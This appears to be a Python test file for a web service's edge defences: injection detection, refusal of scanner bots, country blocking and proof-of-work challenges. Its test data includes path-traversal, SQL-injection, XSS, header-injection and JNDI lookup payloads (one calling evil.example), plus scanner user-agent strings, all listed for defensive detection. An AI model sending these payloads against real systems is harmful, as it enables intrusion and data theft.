"""The edge: what looks like an attack and what only sounds like one, bots, countries, proofs of work."""

import hashlib
import json
from itertools import count
from pathlib import Path
from typing import Any

import httpx
import pytest
from mmdb_writer import MMDBWriter
from netaddr import IPSet

from tests.world import SHOP, World
from trulybot.kit import agents, injections, proofs
from trulybot.kit.countries import Countries, CountryRefused
from trulybot.kit.limits import Limiter
from trulybot.kit.metrics import SECURITY_EVENTS
from trulybot.kit.security import SecurityEvent

HOSTILE = [json.loads(line) for line in (Path(__file__).parents[1] / "data" / "hostile.jsonl").read_text().splitlines()]

# What people are called, ask and write; none of it is an attack.
INNOCENT = [
    "O'Brien", "D'Angelo & Sons", "SELECT a plan", "select the union plan", "1=1 GmbH", "<3", "I <3 your shop", "C:\\",
    "C:\\Users\\Ana", "see ../returns for more", "../ is the folder above", "Bobby Tables", "50% off -- today only",
    "Drop table from my order; update it please", "a; select a plan", "x > y or y < x", "this or that = fine?",
    "Do you sell 'rock' or 'pop' records?", "and/or", "sleep (8 hours)", "benchmark results", "file: returns.pdf",
    "javascript: how do I learn it?", "My script is <b>bold</b>", "price < 10 and size > 4", "it's 5 or 6, isn't it?",
    "Union members select seats first", "50 or 60 = more", "#1 -- the best", "on sale = cheap", "A&B", "100% \"wool\"",
    "l'eau ou l'air", "rock 'n' roll and 60s", "{{name}}", "${price}", "<-- look here", "--help", "a=b&c=d", "नमस्ते",
]  # fmt: skip

ATTACKS = {
    "../../etc/passwd": "traversal",
    "..%2f..%2fetc%2fpasswd": "traversal",
    "%252e%252e%252f%252e%252e%252fetc": "traversal",
    "..\\..\\windows\\win.ini": "traversal",
    "1' or '1'='1": "sql.always",
    "1 or 1=1": "sql.always",
    "') or ('a'='a": "sql.always",
    "1 union select null": "sql.union",
    "1/**/union/**/all/**/select/**/null": "sql.union",
    "'; drop table documents; --": "sql.second",
    "1; select pg_sleep(5)": "sql.second",
    "1 and pg_sleep(3) is null": "sql.time",
    "1' waitfor delay '0:0:5": "sql.time",
    "x from information_schema.tables": "sql.catalogue",
    "<script>alert(1)</script>": "script",
    "<img src=x onerror=alert(1)>": "script",
    "<svg/onload=alert(1)>": "script",
    "javascript:alert(1)": "script",
    "a\r\nSet-Cookie: x=y": "header",
    "${jndi:ldap://evil.example}": "lookup",
}


@pytest.mark.parametrize("text", INNOCENT)
def test_what_people_write_is_no_attack(text: str):
    assert injections.in_prose(text) is None


@pytest.mark.parametrize("claim", ["1=1", "1=2", "7469=1234", "(3) > 2", "'1'='1", "2<1"])
def test_a_true_and_a_false_comparison_in_an_id_are_answered_alike(claim: str):
    assert injections.in_no_prose(f"01a20386-0000-7000-8000-000000000000 AND {claim}") is not None


@pytest.mark.parametrize("text", [text for text in INNOCENT if "../" not in text and "<--" not in text])
def test_nor_is_it_one_as_a_parameter(text: str):
    assert injections.in_no_prose(text) is None


@pytest.mark.parametrize(("text", "rule"), ATTACKS.items())
def test_an_attack_is_seen_and_named(text: str, rule: str):
    assert injections.in_no_prose(text) == rule


def test_of_the_strings_that_break_other_products_the_innocent_are_left_alone():
    rules = {row["text"]: injections.in_prose(row["text"]) for row in HOSTILE}

    innocent = [row["text"] for row in HOSTILE if row["kind"] in ("innocent", "full_text_search", "unicode", "markup")]
    assert {text: rules[text] for text in innocent if rules[text]} == {}
    seen = [row["text"] for row in HOSTILE if row["kind"] == "xss" and rules[row["text"]]]
    assert len(seen) >= 15


def seen(event: SecurityEvent) -> float:
    return float(SECURITY_EVENTS.labels(event.value)._value.get())


@pytest.mark.parametrize(
    "path",
    [
        "/api/documents?status=1'%20or%20'1'='1",
        "/api/documents?limit=1;select%20pg_sleep(5)",
        "/api/leads?cursor=%3Cscript%3E",
        "/api/leads?x[%3Cscript%3E]=1",
        "/api/documents/1%20union%20select%201",
        "/assets/%252e%252e/%252e%252e/etc/passwd",
        "/widget/..%2f..%2fsettings.py",
        "/dashboard/documents/events?since=%0d%0aSet-Cookie:x",
    ],
)
async def test_an_attack_in_an_address_is_refused_and_counted(world: World, path: str):
    before = seen(SecurityEvent.INJECTION)

    response = await world.http.get(path)

    assert response.status_code == 400
    assert "looks like an attack" in response.text
    assert seen(SecurityEvent.INJECTION) == before + 1


async def test_an_attack_in_a_message_is_answered_and_counted(world: World):
    alice = await world.alice()
    before = seen(SecurityEvent.INJECTION)

    answer = await alice.asks("What does <script>alert(1)</script> do?")
    response = await alice.patch("/api/user/profile", {"name": "Robert'; drop table students; --"})

    assert answer["conversation_id"]
    assert response.json()["name"] == "Robert'; drop table students; --"
    assert seen(SecurityEvent.INJECTION) == before + 2


async def test_what_a_business_knows_may_be_about_anything(world: World):
    alice = await world.alice()
    before = seen(SecurityEvent.INJECTION)

    await alice.knows("To delete everything, write '; drop table documents; -- and run it.", title="Our SQL course")

    assert seen(SecurityEvent.INJECTION) == before


async def test_a_person_may_search_and_be_led_on_in_any_words(world: World):
    response = await world.http.get("/sign-in", params={"next": "/dashboard?q=1' or '1'='1"})

    assert response.status_code == 200


async def test_an_endless_address_is_refused(world: World):
    assert (await world.http.get("/api/leads", params={"q": "a" * 9000})).status_code == 414


# Bots


@pytest.mark.parametrize(
    "agent", ["sqlmap/1.8#stable (https://sqlmap.org)", "Mozilla/5.0 (compatible; GPTBot/1.2)", "Nikto/2.5.0"]
)
async def test_a_scanner_or_scraper_is_no_visitor(world: World, agent: str):
    alice = await world.alice()
    bot = await alice.bot()
    before = seen(SecurityEvent.BOT_REFUSED)

    script = await world.http.get("/widget.js", headers={"User-Agent": agent})
    session = await world.http.post("/api/widget/session", json={"bot": bot}, headers={"User-Agent": agent})

    assert [script.status_code, session.status_code] == [403, 403]
    assert script.json()["error"]["code"] == "bot_refused"
    assert seen(SecurityEvent.BOT_REFUSED) == before + 2


@pytest.mark.parametrize(
    "agent",
    [
        "", "curl/8.9", "python-httpx/0.28", "Mozilla/5.0 (Linux; Android 14) Chrome/130 Mobile", "Googlebot/2.1",
        "Mozilla/5.0 (compatible; Robotics Company Browser)", "GraphMapper/1.0", "ChatGPT-User/1.0",
    ],
)  # fmt: skip
def test_everybody_else_is_served(agent: str):
    assert agents.kind_of(agent) is None


async def test_a_program_with_a_key_may_be_called_what_it_likes(world: World):
    alice = await world.alice()
    key = (await alice.post("/api/api-keys", {"name": "crawler", "scopes": ["chat"]})).json()["key"]

    response = await world.http.post(
        "/api/chat", json={"message": "Hello"}, headers={"User-Agent": "Scrapy/2", "Authorization": f"Bearer {key}"}
    )

    assert response.status_code == 200


async def test_a_form_that_fills_what_nobody_sees_is_a_program(world: World):
    form = {"email": "bot@example.com", "password": "correct horse battery", "homepage": "https://spam.example"}

    response = await world.http.post("/sign-up", data=form, headers={"Origin": "http://trulybot.test"})

    assert response.status_code == 400
    assert "set-cookie" not in response.headers


# Countries


@pytest.fixture
def file(tmp_path: Path) -> Path:
    return written(tmp_path / "countries.mmdb", {"203.0.113.0/24": "DE", "198.51.100.0/24": "KP", "8.8.8.0/24": "US"})


def written(path: Path, countries: dict[str, str]) -> Path:
    writer = MMDBWriter(6, ipv4_compatible=True)
    for network, code in countries.items():
        writer.insert_network(IPSet([network]), {"country": {"iso_code": code}})
    writer.to_db_file(str(path))
    return path


def scope(address: str, **headers: str) -> dict[str, Any]:
    sent = [(name.replace("_", "-").encode(), value.encode()) for name, value in headers.items()]
    return {"type": "http", "client": (address, 1), "headers": sent, "state": {"came_by_proxy": bool(headers)}}


def passes(countries: Countries, address: str, **headers: str) -> bool:
    try:
        countries.check(scope(address, **headers))
    except CountryRefused:
        return False
    return True


def test_refused_countries_are_refused_and_unknown_addresses_are_not(file: Path):
    countries = Countries(refused=["US"], file=file)

    assert not passes(countries, "8.8.8.8")
    assert not passes(countries, "::ffff:8.8.8.8")
    assert passes(countries, "9.9.9.9")


def test_only_allowed_countries_are_served_and_an_unknown_address_is_not_of_one(file: Path):
    countries = Countries(allowed=["US"], file=file)

    assert passes(countries, "8.8.8.8")
    assert not passes(countries, "9.9.9.9")
    assert passes(countries, "10.0.0.1")
    assert passes(countries, "127.0.0.1")
    assert passes(countries, "::1")


def test_the_cdns_word_counts_when_it_came_by_a_trusted_proxy():
    countries = Countries(refused=["FR"], header="CF-IPCountry")
    forged = scope("9.9.9.9", cf_ipcountry="FR")
    forged["state"]["came_by_proxy"] = False

    assert not passes(countries, "9.9.9.9", cf_ipcountry="fr")
    assert passes(countries, "9.9.9.9", cf_ipcountry="XX")
    assert countries.check(forged) is None


def test_a_new_file_is_read_when_it_has_changed(file: Path, monkeypatch: pytest.MonkeyPatch):
    countries = Countries(refused=["US"], file=file)
    assert not passes(countries, "8.8.8.8")

    written(file.with_suffix(".new"), {"8.8.8.0/24": "CH"}).replace(file)
    monkeypatch.setattr("trulybot.kit.countries.LOOK_AGAIN_SECONDS", -1)
    assert passes(countries, "8.8.8.8")

    file.write_bytes(b"half a file")
    assert passes(countries, "8.8.8.8")


def test_a_file_of_something_else_is_refused_at_the_start(tmp_path: Path):
    (tmp_path / "x.mmdb").write_text("not a database")

    with pytest.raises(ValueError, match="is not an MMDB file"):
        Countries(refused=["US"], file=tmp_path / "x.mmdb")


async def test_a_refused_country_reaches_nothing_but_health(world: World, file: Path):
    await world.http.get("/api/monitoring/health")
    step = world.app.middleware_stack
    while type(step).__name__ != "Edge":
        step = step.app  # type: ignore[union-attr]
    step.countries = Countries(refused=["US"], file=file)  # type: ignore[union-attr]
    transport = httpx.ASGITransport(world.app, client=("8.8.8.8", 1))

    async with httpx.AsyncClient(transport=transport, base_url="http://trulybot.test") as http:
        answers = [await http.get(path) for path in ("/sign-in", "/widget.js", "/api/monitoring/health")]

    assert [answer.status_code for answer in answers] == [403, 403, 200]


# Proof of work


def solved(challenge: dict[str, Any]) -> dict[str, Any]:
    for number in count():
        digest = hashlib.sha256(f"{challenge['salt']}:{number}".encode()).digest()
        if not int.from_bytes(digest) >> (256 - challenge["difficulty"]):
            return challenge | {"number": number}
    raise AssertionError


@pytest.fixture
def _easy(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(proofs, "DIFFICULTY_BITS", 8)


@pytest.mark.usefixtures("_easy")
async def test_a_browser_without_a_name_works_for_its_session_once(world: World):
    alice = await world.alice()
    await alice.patch("/api/widget/config", {"allowed_origins": [SHOP]})
    bot, headers = await alice.bot(), {"Origin": SHOP, "User-Agent": ""}

    async def begin(**more: Any) -> httpx.Response:
        return await world.http.post("/api/widget/session", json={"bot": bot, **more}, headers=headers)

    asked = await begin()
    proof = solved(asked.json()["error"]["details"][0])
    wrong = await begin(proof=proof | {"number": proof["number"] + 1})
    elsewhere = await begin(proof=proof | {"salt": "0" * 32})
    easier = await begin(proof=proof | {"difficulty": 1})
    right = await begin(proof=proof)
    again = await begin(proof=proof)

    assert (asked.status_code, asked.json()["error"]["code"]) == (403, "proof_required")
    assert asked.headers["access-control-allow-origin"] == SHOP
    assert [answer.status_code for answer in (wrong, elsewhere, easier, right, again)] == [403, 403, 403, 200, 403]


@pytest.mark.usefixtures("_easy")
async def test_a_proof_runs_out_and_is_for_one_bot(monkeypatch: pytest.MonkeyPatch):
    limiter, key = Limiter(), b"k" * 32
    proof = proofs.Proof(**solved(dict(proofs.challenge(key, "bot a"))))

    assert not await proofs.holds(proof, key, "bot b", limiter)
    assert not await proofs.holds(proof, b"x" * 32, "bot a", limiter)
    now = proofs.time.time()
    monkeypatch.setattr(proofs.time, "time", lambda: now + proofs.LIFETIME_SECONDS + 1)
    assert not await proofs.holds(proof, key, "bot a", limiter)


async def test_nobody_else_is_asked_to_work(world: World):
    alice = await world.alice()
    await alice.patch("/api/widget/config", {"allowed_origins": [SHOP]})

    response = await world.http.post("/api/widget/session", json={"bot": await alice.bot()}, headers={"Origin": SHOP})

    assert response.status_code == 200
